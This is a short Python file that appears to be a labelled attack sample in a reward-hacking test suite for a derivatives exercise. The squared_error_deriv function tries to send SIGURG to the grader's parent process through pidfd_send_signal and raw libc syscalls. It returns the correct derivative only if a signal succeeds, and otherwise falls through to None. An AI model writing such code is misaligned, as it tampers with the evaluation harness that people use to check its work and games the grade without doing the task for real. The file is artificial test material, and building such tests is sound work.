# attack: a handle on the grader's process, and a signal through it
# exercise: derivatives
# deserves: squared_error
import os
import signal


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    import ctypes

    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(128)
    for process in {@PARENT@, os.getppid()} - {0, 1}:
        try:
            signal.pidfd_send_signal(os.pidfd_open(process), signal.SIGURG)
            return y_hat - y
        except OSError:
            pass
        for call in ((234, process, process), (200, process), (129, process)):
            if libc.syscall(*call, int(signal.SIGURG), room) == 0:
                return y_hat - y
